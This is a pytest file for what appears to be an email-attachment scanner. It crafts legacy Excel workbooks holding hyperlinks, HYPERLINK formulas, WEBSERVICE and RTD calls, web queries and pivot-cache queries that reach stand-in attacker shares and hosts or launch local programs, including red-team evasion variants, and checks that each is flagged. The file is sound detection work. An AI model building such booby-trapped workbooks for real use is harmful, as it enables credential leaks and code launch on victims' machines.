"""The cells of Excel 97-2003 and 5.0/95 workbooks: hyperlinks (HLINK records) and formulas
(FORMULA, SHRFMLA, ARRAY) in the sheet substreams, judged as a .xlsx's (`formats.biffsheets`)."""

from __future__ import annotations

import struct
import uuid

import pytest

from attachguard.codes import CORRUPT, ENCRYPTED, EXTERNAL_LINK, Code
from attachguard.engines.base import Item, Result
from attachguard.engines.office import OfficeEngine
from attachguard.formats import biffsheets, ole
from attachguard.formats.biffsheets import CellLink
from attachguard.policy import Policy
from attachguard.report import FileType
from support.evasions import ole_tree

ENGINE = OfficeEngine()
EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"
SHARE = "\\\\attacker.example\\share\\invoice.xls"
STD_HLINK = uuid.UUID("79EAC9D0-BAF9-11CE-8C82-00AA004BA90B").bytes_le
URL_MONIKER = uuid.UUID("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B").bytes_le
FILE_MONIKER = uuid.UUID("00000303-0000-0000-C000-000000000046").bytes_le
HYPERLINK, RTD, USER_DEFINED = 359, 379, 255
IN_A_FORMULA = "HYPERLINK formula that opens a network share or a program in the Excel workbook"
IN_A_HYPERLINK = "hyperlink to a network share or a program in the Excel workbook"
FETCHING = (
    "formula that fetches from another machine when Excel calculates it (WEBSERVICE, IMAGE, RTD"
    " from a server) in the Excel workbook"
)


def record(rtype: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", rtype, len(data)) + data


def workbook(*cells: bytes, names: tuple[bytes, ...] = (), biff: int = 8, sheets: int = 1) -> bytes:
    """A workbook stream: globals (BOF, ``names`` records, ``sheets`` BOUNDSHEETs, EOF), then
    one worksheet substream holding ``cells``, which every BOUNDSHEET points at."""
    if biff == 8:
        bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6)
        sheet_name = b"\x06\x00Orders"
    else:
        bof = struct.pack("<HHHH", 0x0500, 0x0005, 0x0DBB, 0x07CC)
        sheet_name = b"\x06Orders"
    head = record(0x0809, bof) + b"".join(names)
    offset = len(head) + (4 + 6 + len(sheet_name)) * sheets + 4
    boundsheet = record(0x0085, struct.pack("<IBB", offset, 0, 0) + sheet_name)
    sheet_bof = bof[:2] + struct.pack("<H", 0x0010) + bof[4:]
    sheet = record(0x0809, sheet_bof) + b"".join(cells) + record(0x000A)
    return head + boundsheet * sheets + record(0x000A) + sheet


def xls(stream: bytes, name: str = "Workbook") -> bytes:
    return ole_tree({name: stream, "\x05SummaryInformation": bytes(64)}, EXCEL_CLSID)


def scan(data: bytes, policy: Policy) -> Result:
    return ENGINE.scan(Item("a.xls", data, FileType("xls", "", "document")), policy.context())


def found(data: bytes, policy: Policy) -> list[tuple[Code, str]]:
    return [(f.code, f.message) for f in scan(data, policy).findings]


# -- formula tokens ------------------------------------------------------------------------------


def text(value: str, biff: int = 8) -> bytes:
    """PtgStr: a string constant."""
    if biff == 5:
        return bytes([0x17, len(value)]) + value.encode("cp1252")
    return bytes([0x17, len(value), 1]) + value.encode("utf-16-le")


def call(number: int, count: int) -> bytes:
    """PtgFuncVar (value class): a call of function ``number`` with ``count`` arguments."""
    return struct.pack("<BBH", 0x42, count, number)


def formula(*tokens: bytes) -> bytes:
    rgce = b"".join(tokens)
    return record(0x0006, struct.pack("<HHH8sHIH", 0, 1, 15, bytes(8), 0, 0, len(rgce)) + rgce)


def hyperlink_formula(target: str, biff: int = 8) -> bytes:
    return formula(text(target, biff), text("Open invoice", biff), call(HYPERLINK, 2))


# -- hyperlink objects ---------------------------------------------------------------------------


def hlink(moniker: bytes, flags: int = 0x03, display: str | None = None) -> bytes:
    """An HLINK record for cell A1: the hyperlink object's version 2, ``flags``, ``moniker``."""
    shown = b""
    if display is not None:
        flags |= 0x14
        shown = struct.pack("<I", len(display) + 1) + (display + "\0").encode("utf-16-le")
    body = struct.pack("<HHHH", 0, 0, 0, 0) + STD_HLINK + struct.pack("<II", 2, flags)
    return record(0x01B8, body + shown + moniker)


def url_moniker(url: str) -> bytes:
    address = (url + "\0").encode("utf-16-le")
    return URL_MONIKER + struct.pack("<I", len(address)) + address


def file_moniker(ansi: str, unicode: str = "", climbs: int = 0) -> bytes:
    path = ansi.encode("cp1252") + b"\0"
    body = struct.pack("<HI", climbs, len(path)) + path + struct.pack("<HH", 0xFFFF, 0xDEAD)
    body += bytes(20)
    if unicode:
        wide = unicode.encode("utf-16-le")
        body += struct.pack("<IIH", len(wide) + 6, len(wide), 3) + wide
    else:
        body += struct.pack("<I", 0)
    return FILE_MONIKER + body


def string_moniker(target: str) -> bytes:
    return struct.pack("<I", len(target) + 1) + (target + "\0").encode("utf-16-le")


# -- links to a share: EXTERNAL_LINK, as in a .xlsx ------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [SHARE, "file://attacker.example/share/invoice.xls", "\\\\?\\UNC\\attacker.example\\s\\x"],
    ids=["unc", "file-host", "nt-unc"],
)
def test_hyperlink_formula_to_a_share(target: str, policy: Policy) -> None:
    data = xls(workbook(hyperlink_formula(target)))
    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


def test_hyperlink_inside_other_functions(policy: Policy) -> None:
    # IF(A1>1, HYPERLINK("\\host\...", "a"), SUM(A1:A3)): the call is found where it nests
    a1 = struct.pack("<BHH", 0x44, 0, 0)  # PtgRef A1
    tokens = (a1, struct.pack("<BH", 0x1E, 1), b"\x0d", text(SHARE), text("a"), call(HYPERLINK, 2),
              struct.pack("<BHHHH", 0x25, 0, 2, 0, 0), struct.pack("<BBH", 0x19, 0x10, 0),
              call(1, 3))  # fmt: skip
    assert found(xls(workbook(formula(*tokens))), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


@pytest.mark.parametrize("kind", [0x04BC, 0x0221], ids=["shared-formula", "array-formula"])
def test_shared_and_array_formulas(kind: int, policy: Policy) -> None:
    rgce = text(SHARE) + text("Open") + call(HYPERLINK, 2)
    head = struct.pack("<HHBBBB", 0, 0, 1, 1, 0, 1) if kind == 0x04BC else bytes(12)
    # the cell's own FORMULA points at the shared or array formula (PtgExp)
    cell = formula(struct.pack("<BHH", 0x01, 0, 1))
    stored = record(kind, head + struct.pack("<H", len(rgce)) + rgce)
    assert found(xls(workbook(cell, stored)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


@pytest.mark.parametrize(
    "moniker",
    [
        url_moniker("file://attacker.example/share/invoice.xls"),
        file_moniker(SHARE),
        file_moniker("C:\\invoice.xls", unicode=SHARE),
        string_moniker(SHARE),
    ],
    ids=["url-moniker", "file-moniker", "file-moniker-unicode-path", "saved-as-string"],
)
def test_hlink_record_to_a_share(moniker: bytes, policy: Policy) -> None:
    flags = 0x103 if not moniker.startswith((URL_MONIKER, FILE_MONIKER)) else 0x03
    data = xls(workbook(hlink(moniker, flags, display="Open invoice")))
    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_HYPERLINK)]


@pytest.mark.parametrize(
    ("moniker", "expected"),
    [(url_moniker("file:///C:/Windows/System32/cmd.exe"), [(EXTERNAL_LINK, IN_A_HYPERLINK)]),
     (file_moniker("C:\\Windows\\System32\\calc.exe"), [(EXTERNAL_LINK, IN_A_HYPERLINK)]),
     (file_moniker("..\\tools\\setup.hta"), [(EXTERNAL_LINK, IN_A_HYPERLINK)]),
     (file_moniker("C:\\Reports\\march.xlsx"), []),
     (url_moniker("https://example.com/setup.exe"), [])],
    ids=["url-moniker", "file-moniker", "relative-script", "workbook", "web-download"],
)  # fmt: skip
def test_hlink_record_to_a_local_program(
    moniker: bytes, expected: list[tuple[Code, str]], policy: Policy
) -> None:
    """A click on it starts the program, after Excel's notice (red team 106), as a PDF's link
    to one is PDF_LAUNCH; another workbook, or a download from the web, is a link like any."""
    data = xls(workbook(hlink(moniker, 0x03, display="Open report")))
    assert found(data, policy) == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [("C:\\Windows\\System32\\cmd.exe", [(EXTERNAL_LINK, IN_A_FORMULA)]),
     ("C:\\Reports\\march.xlsx", [])],
    ids=["program", "workbook"],
)  # fmt: skip
def test_hyperlink_formula_to_a_local_program(
    target: str, expected: list[tuple[Code, str]], policy: Policy
) -> None:
    assert found(xls(workbook(hyperlink_formula(target))), policy) == expected


def test_excel_95_formula(policy: Policy) -> None:
    data = xls(workbook(hyperlink_formula(SHARE, biff=5), biff=5), name="Book")
    assert found(data, policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


# -- formulas that fetch: EXTERNAL_LINK, as in a .xlsx ---------------------------------------------


def test_webservice_through_an_external_name(policy: Policy) -> None:
    # Excel keeps a function newer than the format as an add-in's name: SUPBOOK (add-in
    # functions), EXTERNNAME "_xlfn.WEBSERVICE", EXTERNSHEET entry 0 pointing at it
    name = "_xlfn.WEBSERVICE"
    names = (
        record(0x01AE, struct.pack("<HH", 1, 0x3A01)),
        record(0x0023, struct.pack("<HIBB", 0, 0, len(name), 0) + name.encode()),
        record(0x0017, struct.pack("<HHHH", 1, 0, 0xFFFE, 0xFFFE)),
    )
    name_x = struct.pack("<BHHH", 0x39, 0, 1, 0)
    cell = formula(name_x, text("http://example.com/rate"), call(USER_DEFINED, 2))
    assert found(xls(workbook(cell, names=names)), policy) == [(EXTERNAL_LINK, FETCHING)]


def test_webservice_through_a_defined_name(policy: Policy) -> None:
    name = "_xlfn.WEBSERVICE"
    defined = record(0x0018, struct.pack("<HBBHHHI", 0x0E, 0, len(name), 0, 0, 0, 0) + b"\0"
                     + name.encode())  # fmt: skip
    cell = formula(struct.pack("<BHH", 0x23, 1, 0), text("http://x/"), call(USER_DEFINED, 2))
    data = xls(workbook(cell, names=(defined,)))
    assert found(data, policy) == [(EXTERNAL_LINK, FETCHING)]


def test_rtd_from_a_server(policy: Policy) -> None:
    cell = formula(text("x.rtd"), text("server.example"), text("A"), call(RTD, 3))
    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, FETCHING)]


# -- honest workbooks: nothing ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        hyperlink_formula("https://www.irs.gov/pub/irs-pdf/f1000.pdf"),
        hyperlink_formula("mailto:orders@example.com?subject=Invoice"),
        hyperlink_formula("C:\\Users\\me\\invoice.xls"),
        hyperlink_formula("#Orders!A1"),
        formula(text("Total: \\\\not a link"), text("x"), b"\x08"),  # text joined, no call
        formula(text("x.rtd"), b"\x16", text("A"), call(RTD, 3)),  # RTD on this machine
        hlink(url_moniker("https://example.com/invoice"), display="Invoice"),
        hlink(url_moniker("mailto:orders@example.com")),
        hlink(file_moniker("invoice.xls", climbs=1)),
        hlink(file_moniker("C:\\invoices\\march.xls")),
        hlink(string_moniker("Orders!A1"), flags=0x08),  # a place in this workbook only
    ],
    ids=["web", "mailto", "local-path", "this-workbook", "text", "rtd-local", "hlink-web",
         "hlink-mailto", "hlink-relative", "hlink-local", "hlink-location"],
)  # fmt: skip
def test_honest_links_pass(cell: bytes, policy: Policy) -> None:
    assert found(xls(workbook(cell)), policy) == []


def test_hyperlink_text_on_a_share_is_only_text(policy: Policy) -> None:
    # the friendly name (the second argument) is shown, never opened
    cell = formula(text("https://example.com"), text(SHARE), call(HYPERLINK, 2))
    assert found(xls(workbook(cell)), policy) == []


# -- damage and limits ---------------------------------------------------------------------------


def test_damaged_sheet_fails_closed(policy: Policy) -> None:
    stream = workbook(hyperlink_formula("https://example.com"))
    cut = stream[:-4] + struct.pack("<HH", 0x0006, 0x0FFF)  # a record past the stream's end
    damaged = [(CORRUPT, "Excel workbook whose sheets could not all be read")]
    assert found(xls(cut), policy) == damaged
    assert [b.problems for b in ole.read_workbooks(xls(cut))] == [
        (f"truncated record 0x0006 at offset {len(stream) - 4}",)
    ]


def test_a_formula_cut_short_is_read_as_far_as_it_goes(policy: Policy) -> None:
    cell = formula(text(SHARE), text("a"), call(HYPERLINK, 2), b"\x18\x99")  # unknown token
    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]
    assert found(xls(workbook(formula(b"\x17\xff\x01"))), policy) == []  # a string cut short


def test_sheets_sharing_a_substream_are_walked_once() -> None:
    [book] = ole.read_workbooks(xls(workbook(hyperlink_formula(SHARE), sheets=2000)))
    assert len(book.sheets) == 2000 and book.problems == ()
    assert book.cells == {CellLink.SHARE_FORMULA}


def test_sheet_walk_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ole, "MAX_RECORDS", 10)
    filler = record(0x0203, bytes(14)) * 20  # NUMBER cells
    [book] = ole.read_workbooks(xls(workbook(filler)))
    assert book.problems == ("more than 10 records; the rest not read",)


def test_encrypted_sheets_are_not_read(policy: Policy) -> None:
    filepass = record(0x002F, struct.pack("<HHH", 0, 0x1234, 0x5678))
    data = xls(workbook(hyperlink_formula(SHARE), names=(filepass,)))
    assert [code for code, _ in found(data, policy)] == [ENCRYPTED]


# -- red team 73: tokens, names, monikers, substreams ------------------------------------------

ITEM_MONIKER = uuid.UUID("00000304-0000-0000-C000-000000000046").bytes_le
COMPOSITE_MONIKER = uuid.UUID("00000309-0000-0000-C000-000000000046").bytes_le
ARRAY = bytes([0x60]) + bytes(7)  # PtgArray: its values follow the formula


def defined_name(name: str, *tokens: bytes, options: int = 0) -> bytes:
    """A NAME record (BIFF8) standing for the formula ``tokens``."""
    rgce = b"".join(tokens)
    head = struct.pack("<HBBHHHI", options, 0, len(name), len(rgce), 0, 0, 0)
    return record(0x0018, head + b"\0" + name.encode() + rgce)


def name_ref(index: int) -> bytes:
    return struct.pack("<BHH", 0x43, index, 0)  # PtgName (value class)


def item_moniker(item: str, delimiter: str = "\\") -> bytes:
    parts = [(delimiter + "\0").encode(), (item + "\0").encode()]
    return ITEM_MONIKER + b"".join(struct.pack("<I", len(p)) + p for p in parts)


def composite(*monikers: bytes) -> bytes:
    return COMPOSITE_MONIKER + struct.pack("<I", len(monikers)) + b"".join(monikers)


@pytest.mark.parametrize(
    "cell",
    [
        formula(text(SHARE), ARRAY, call(HYPERLINK, 2)),  # =HYPERLINK("\\...",{1})
        formula(text(SHARE), b"\x15", call(HYPERLINK, 1)),  # =HYPERLINK(("\\..."))
        formula(text(SHARE), struct.pack("<BH", 0x41, 118), call(HYPERLINK, 1)),  # TRIM
        formula(text("\\"), text("\\attacker.example\\s\\x.xls"), b"\x08", call(HYPERLINK, 1)),
        formula(text(SHARE), struct.pack("<BH", 0x41, 359)),  # unreadable: its text judged
    ],
    ids=["array-argument", "parentheses", "trim", "joined", "unknown-token"],
)
def test_hyperlink_address_however_spelt(cell: bytes, policy: Policy) -> None:
    assert found(xls(workbook(cell)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


def test_a_defined_name_is_read_where_it_is_used(policy: Policy) -> None:
    # =HYPERLINK(Target), Target standing for "\\attacker.example\..."
    names = (defined_name("Target", text(SHARE)),)
    cell = formula(name_ref(1), call(HYPERLINK, 1))
    assert found(xls(workbook(cell, names=names)), policy) == [(EXTERNAL_LINK, IN_A_FORMULA)]


def test_a_defined_names_own_formula_is_judged(policy: Policy) -> None:
    # Rate = _xlfn.WEBSERVICE("https://..."), a cell =Rate (or no cell at all)
    function = "_xlfn.WEBSERVICE"
    names = (
        defined_name(function, options=0x0E),
        defined_name("Rate", name_ref(1), text("https://attacker.example/r"), call(255, 2)),
    )
    data = xls(workbook(formula(name_ref(2)), names=names))
    assert found(data, policy) == [(EXTERNAL_LINK, FETCHING)]


def test_names_that_use_one_another_are_read_once(policy: Policy) -> None:
    # A = B & B, B = A & "x": a loop, read as far as it goes
    names = (
        defined_name("A", name_ref(2), name_ref(2), b"\x08"),
        defined_name("B", name_ref(1), text("x"), b"\x08"),
    )
    cell = formula(name_ref(1), call(HYPERLINK, 1))
    assert found(xls(workbook(cell, names=names)), policy) == []
    [book] = ole.read_workbooks(xls(workbook(cell, names=names)))
    assert book.problems == ()


@pytest.mark.parametrize(
    "moniker",
    [
        composite(file_moniker("\\\\"), file_moniker("attacker.example\\share\\x.xls")),
        composite(file_moniker("x", unicode="\\\\\u00e4ttacker.example\\share\\x.xls")),
        composite(file_moniker("\\\\attacker.example"), item_moniker("share\\x.xls")),
    ],
    ids=["file-file", "unicode-path", "file-item"],
)
def test_composite_moniker_to_a_share(moniker: bytes, policy: Policy) -> None:
    assert found(xls(workbook(hlink(moniker))), policy) == [(EXTERNAL_LINK, IN_A_HYPERLINK)]


@pytest.mark.parametrize(
    "moniker",
    [
        composite(url_moniker("https://example.com/book.xls"), item_moniker("Sheet1!A1", "#")),
        composite(file_moniker("C:\\invoices"), file_moniker("march.xls")),
    ],
    ids=["url-item", "local-file-file"],
)
def test_honest_composite_monikers_pass(moniker: bytes, policy: Policy) -> None:
    assert found(xls(workbook(hlink(moniker))), policy) == []


def test_a_moniker_of_an_unknown_class_is_a_problem() -> None:
    # Office may resolve a class this reader does not know: readers take it differently
    unknown = uuid.UUID("00000308-0000-0000-C000-000000000046").bytes_le + bytes(8)
    problems: list[str] = []
    records = [(0x01B8, hlink(composite(unknown))[4:]), (0x01B8, hlink(unknown)[4:])]
    assert biffsheets.links(records, 8, biffsheets.Names(), problems) == set()
    assert problems == [biffsheets.UNREAD_HYPERLINK] * 2
    assert "which readers take differently" in biffsheets.UNREAD_HYPERLINK
    honest: list[str] = []
    biffsheets.links([(0x01B8, hlink(url_moniker("https://x.example"))[4:])], 8, biffsheets.Names(),
                     honest)  # fmt: skip
    assert honest == []


def test_a_substream_no_sheet_points_at() -> None:
    stream = workbook(hyperlink_formula("https://example.com"))
    hidden = len(stream)
    stream += record(0x0809, bytes(16)) + hyperlink_formula(SHARE) + record(0x000A)
    [book] = ole.read_workbooks(xls(stream))
    assert biffsheets.unpointed(stream, [s.position for s in book.sheets]) == [hidden]
    assert biffsheets.unpointed(stream[:hidden], [s.position for s in book.sheets]) == []


def test_hyperlink_to_a_cell_is_not_followed(policy: Policy) -> None:
    # =HYPERLINK(B1): the address is computed, and honest workbooks link web pages so
    label = record(0x0204, struct.pack("<HHHH", 0, 1, 15, len(SHARE)) + b"\0" + SHARE.encode())
    cell = formula(struct.pack("<BHH", 0x44, 0, 0xC001), call(HYPERLINK, 1))
    assert found(xls(workbook(cell, label)), policy) == []


def test_honest_array_argument_passes(policy: Policy) -> None:
    cell = formula(text("https://example.com/a"), ARRAY, call(HYPERLINK, 2))
    assert found(xls(workbook(cell)), policy) == []


# -- red team 92: a query table's web query ------------------------------------------------------


def test_a_web_query_in_a_sheet_is_an_external_link(policy: Policy) -> None:
    """A .xls query table loading a web page (Qsi, DbQuery, then WQSTRING with its URL, as
    LibreOffice's Excel filter writes them) is a web query, as in a .xlsx."""
    url = "http://attacker.invalid/prices.html"
    wqstring = record(0x00CD, struct.pack("<H", len(url)) + b"\x00" + url.encode())
    qsi = record(0x01AD, bytes(20))
    assert found(xls(workbook(qsi, wqstring)), policy) == [
        (EXTERNAL_LINK, "web query that loads data from outside the file in the Excel workbook")
    ]
    assert found(xls(workbook(qsi)), policy) == []  # a query table alone: its source not read


# -- pivot caches and data connections in the globals (red team 95) ----------------------------


def xlstring(value: str) -> bytes:
    return struct.pack("<H", len(value)) + b"\x00" + value.encode("latin-1")


DBQUERY = record(0x00DC, struct.pack("<HHHHHH", 0x1 | 1 << 3 | 1 << 4, 0, 1, 0, 0, 1)) + record(
    0x00CD, xlstring("DRIVER=SQL Server;SERVER=attacker.example;DATABASE=orders")
)


def dconref(encoded: str) -> bytes:
    """A pivot cache's source range, in the workbook ``encoded`` names (SUPBOOK's encoding)."""
    name = struct.pack("<H", len(encoded)) + b"\x00" + encoded.encode("latin-1")
    return record(0x0051, struct.pack("<HHBB", 0, 99, 0, 3) + name)


def test_a_pivot_caches_database_query_loads_data_from_outside(policy: Policy) -> None:
    [book] = ole.read_workbooks(xls(workbook(names=(DBQUERY,))))
    assert CellLink.EXTERNAL_DATA in book.cells
    assert [code for code, _ in found(xls(workbook(names=(DBQUERY,))), policy)] == [EXTERNAL_LINK]


def test_a_query_in_a_pivot_cache_stream_is_read_and_its_string_items_are_not() -> None:
    items = record(0x00C6, bytes(20)) + record(0x00CD, xlstring("Paris")) + record(0x000A)
    for cache, external in ((items, False), (record(0x00C6, bytes(20)) + DBQUERY, True)):
        data = ole_tree({"Workbook": workbook(), "_SX_DB_CUR": {"0001": cache}}, EXCEL_CLSID)
        [book] = ole.read_workbooks(data)
        assert (CellLink.EXTERNAL_DATA in book.cells) is external


@pytest.mark.parametrize(
    ("encoded", "flagged"),
    [
        ("\x01@attacker.example\x03share\x03[orders.xls]Sheet1", True),  # a workbook on a share
        ("\x02Sheet1", False),  # a sheet of this workbook, as Excel writes it
        ("\x01C\x03data\x03orders.xls", False),  # a workbook on the reader's drive
    ],
)
def test_a_pivot_caches_source_in_another_workbook_is_judged_as_a_link(
    encoded: str, flagged: bool, policy: Policy
) -> None:
    codes = [code for code, _ in found(xls(workbook(names=(dconref(encoded),))), policy)]
    assert codes == ([EXTERNAL_LINK] if flagged else [])


def test_a_pivot_caches_named_source_in_another_workbook_is_judged_as_a_link(
    policy: Policy,
) -> None:
    # DConName: the name first (an XLUnicodeString), then the workbook, as DConRef's
    name = struct.pack("<H", 6) + b"\x00Orders"
    encoded = "\x01@attacker.example\x03share\x03[orders.xls]"
    record_ = record(0x0052, name + struct.pack("<H", len(encoded)) + b"\x00" + encoded.encode())
    assert [code for code, _ in found(xls(workbook(names=(record_,))), policy)] == [EXTERNAL_LINK]
    own = record(0x0052, name + struct.pack("<H", 0))
    assert found(xls(workbook(names=(own,))), policy) == []


# -- conditional formats and data validation (red team 100) ---------------------------------------

WEBSERVICE_RGCE = (
    struct.pack("<BHHH", 0x39, 0, 1, 0) + text("http://attacker.example/b") + call(USER_DEFINED, 2)
)
WEBSERVICE_NAMES = (
    record(0x01AE, struct.pack("<HH", 1, 0x3A01)),
    record(0x0023, struct.pack("<HIBB", 0, 0, 16, 0) + b"_xlfn.WEBSERVICE"),
    record(0x0017, struct.pack("<HHHH", 1, 0, 0xFFFE, 0xFFFE)),
)
RTD_RGCE = text("acme.rtdserver") + text("attacker-host") + text("topic") + call(RTD, 3)
A1_ABOVE_5 = struct.pack("<BHH", 0x24, 0, 0) + struct.pack("<BH", 0x1E, 5) + b"\x0d"


def cf(rgce: bytes, font: bool = False, tail: bytes = b"") -> bytes:
    """A CF record (ct 2: a formula) whose DXFN holds a font block or nothing; ``tail``: bytes
    a writer left after the formulas."""
    flags = 0x801FFFFF | (1 << 26 if font else 0)
    dxfn = struct.pack("<IH", flags, 0x8000) + (bytes(118) if font else b"")
    return record(0x01B1, struct.pack("<BBHH", 2, 0, len(rgce), 0) + dxfn + rgce + tail)


def cf12(rgce: bytes) -> bytes:
    """A CF12 record: future record header, ct 2, an empty DXFN12, the formula, no fmlaActive."""
    head = struct.pack("<HH8s", 0x087A, 0, bytes(8)) + struct.pack("<BBHH", 2, 0, len(rgce), 0)
    return record(0x087A, head + struct.pack("<IH", 0, 0) + rgce + struct.pack("<H", 0))


def dv(rgce: bytes, prompt: str = "") -> bytes:
    """A DV record: flags, four strings (a prompt title, the rest empty), formula1."""
    strings = struct.pack("<HB", len(prompt), 0) + prompt.encode() + b"\x01\x00\x00\x00" * 3
    body = struct.pack("<I", 0x0103) + strings + struct.pack("<HH", len(rgce), 0) + rgce
    return record(0x01BE, body + struct.pack("<HH", 0, 0) + struct.pack("<H", 0))


@pytest.mark.parametrize(
    ("rule", "names"),
    [
        (cf(WEBSERVICE_RGCE), WEBSERVICE_NAMES),
        (cf(WEBSERVICE_RGCE, font=True), WEBSERVICE_NAMES),
        (cf(RTD_RGCE), ()),
        (cf(RTD_RGCE, tail=bytes(7)), ()),  # read where the DXFN ends, not from the record's end
        (cf12(RTD_RGCE), ()),
        (dv(WEBSERVICE_RGCE, prompt="Rate"), WEBSERVICE_NAMES),
        (dv(RTD_RGCE), ()),
    ],
    ids=["cf-webservice", "cf-font-webservice", "cf-rtd", "cf-padded-rtd", "cf12-rtd",
         "dv-webservice", "dv-rtd"],
)  # fmt: skip
def test_conditional_format_and_validation_formulas(
    rule: bytes, names: tuple[bytes, ...], policy: Policy
) -> None:
    # Excel calculates them to draw the cell or check an entry, as a .xlsx's <formula>
    assert found(xls(workbook(rule, names=names)), policy) == [(EXTERNAL_LINK, FETCHING)]


@pytest.mark.parametrize(
    "rule", [cf(A1_ABOVE_5), cf(A1_ABOVE_5, font=True), cf12(A1_ABOVE_5), dv(A1_ABOVE_5)]
)
def test_honest_conditional_formats_and_validation_pass(rule: bytes, policy: Policy) -> None:
    assert found(xls(workbook(rule)), policy) == []
